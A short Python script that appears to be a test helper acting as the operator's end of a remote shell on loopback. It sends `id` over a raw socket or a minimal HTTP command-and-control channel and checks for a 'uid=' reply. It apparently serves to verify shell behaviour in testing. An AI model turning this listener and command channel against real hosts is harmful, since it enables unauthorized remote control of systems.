#!/usr/bin/env python3
"""attacker.py listen|connect PORT: the far end of a shell on loopback. Asks it for `id` and ends with 0 if it answers.
attacker.py serve PORT TEXT: hands TEXT to who connects.
attacker.py web PORT: the same dialogue by HTTP: who gets is told the command, who posts brings the answer."""
import os
import socket
import sys
import time

mode, port = sys.argv[1], int(sys.argv[2])
end = time.time() + 20
if mode == "connect":
    while True:
        try:
            peer = socket.create_connection(("127.0.0.1", port), 5)
            break
        except OSError:
            if time.time() > end:
                sys.exit(1)
            time.sleep(0.1)
else:
    server = socket.create_server(("127.0.0.1", port))
    open(os.environ["W"] + "/ready", "w").close()
    server.settimeout(90)
    peer, _ = server.accept()
while mode == "web":
    asked = peer.recv(65536)
    if asked.startswith(b"POST") and b"uid=" not in asked:
        asked += peer.recv(65536)
    peer.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + (b"id\n" if asked.startswith(b"GET") else b""))
    peer.close()
    if b"uid=" in asked:
        sys.exit(0)
    peer, _ = server.accept()
if mode == "serve":
    peer.sendall(sys.argv[3].encode() + b"\n")
    sys.exit(0)
time.sleep(0.3)
peer.sendall(b"id\n")
peer.settimeout(15)
got = b""
while b"uid=" not in got:
    part = peer.recv(4096)
    if not part:
        sys.exit(1)
    got += part
peer.sendall(b"exit\n")
